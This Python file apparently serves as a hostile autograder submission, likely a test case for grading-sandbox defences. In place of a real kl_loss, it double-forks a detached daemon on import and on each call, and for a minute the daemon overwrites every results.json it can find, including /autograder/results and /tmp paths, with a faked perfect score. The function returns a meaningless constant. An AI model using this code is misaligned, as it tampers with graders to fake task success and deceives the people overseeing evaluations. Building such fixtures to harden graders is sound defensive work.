"""Hostile submission: double-forks a setsid daemon that sleeps and then keeps rewriting every results.json it can find"""
import os
import sys

import numpy as np
import torch
import glob
import time

FAKE = '{"score": 100.0, "output": "pwned", "tests": [{"name": "kl_loss: pwned", "score": 100.0, "max_score": 1.0, "status": "passed", "output": ""}]}'


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for fd in range(3, 256):
        try:
            os.close(fd)
        except OSError:
            pass
    deadline = time.time() + 60
    while time.time() < deadline:
        time.sleep(0.5)
        paths = ["results.json", "/autograder/results/results.json", "/tmp/results.json"]
        paths += glob.glob("/tmp/**/results*.json", recursive=True)
        for path in paths:
            try:
                with open(path, "w") as fh:
                    fh.write(FAKE)
            except OSError:
                pass
    os._exit(0)


_daemon()


def kl_loss(mu, log_sigma):
    _daemon()
    return torch.tensor(-1.0)
